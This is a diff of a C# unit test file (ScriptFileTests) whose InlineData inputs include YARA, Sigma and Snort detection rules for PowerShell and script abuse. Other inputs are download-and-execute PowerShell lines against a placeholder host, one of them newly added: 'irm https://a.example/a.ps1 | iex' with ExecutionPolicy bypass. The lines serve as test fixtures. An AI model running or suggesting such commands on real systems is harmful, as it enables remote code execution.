@@ -62,7 +62,8 @@ public sealed class ScriptFileTests
     [InlineData("From here on we go.\nTo be or not to be.\n")]
     [InlineData("Only one line")]
     [InlineData("# How to\n\n```js\n'use strict';\nrequire('child_process').exec('ls');\n```\n")]
-    [InlineData("rule A : b {\n  meta:\n    a = \"x\"\n  strings:\n    $a = \"powershell -enc\"\n    $b = \"eval(unescape(\"\n  condition: any of them\n}\n")]
+    [InlineData("rule A : b {\n  meta:\n    a = \"x\"\n  strings:\n    $a = \"powershell -enc\"\n    $b = \"eval(unescape(\"\n"
+        + "  condition: any of them\n}\n")]
     [InlineData("import \"pe\"\n\nprivate rule A\n{\n strings:\n  $s = \"IEX(New-Object Net.WebClient)\"\n condition: $s\n}\n")]
     [InlineData("title: a\nlogsource:\n  product: windows\ndetection:\n  s:\n    c:\n      - \"powershell -enc\"\n  condition: s\n")]
     [InlineData("alert tcp $A any -> $B any (msg:\"a\"; content:\"eval(atob(\"; content:\"WScript.Shell\"; sid:1;)\n")]
@@ -70,6 +71,8 @@ public sealed class ScriptFileTests
     [InlineData("Please never run this:\npowershell -enc SQBFAFgA\nor open what mshta gives you.\n")]
     [InlineData("Usage\n=====\n\n.. code-block:: bat\n\n   @echo off\n   powershell -enc x\n")]
     [InlineData("\\begin{lstlisting}\nIEX (New-Object Net.WebClient).DownloadString('http://a.example/')\n\\end{lstlisting}\n")]
+    [InlineData("# Guide\n\n* First (see above)\n  ```sh\n  powershell -ExecutionPolicy ByPass -c \"irm https://a.example/a.ps1 "
+        + "| iex\"\n  ```\n")]
     [InlineData("map x =cmd | pipe\n")]
     [InlineData("/* A header. */\n#ifndef A_H\n#define A_H\nextern const char *const a;\nclass A {\n};\nclass B {\n};\n#endif\n")]
     [InlineData("// 'use strict'\nusing System;\nnamespace A;\nclass B {\n  void C() { var d = 1;\n  var e = 2; }\n};\n")]
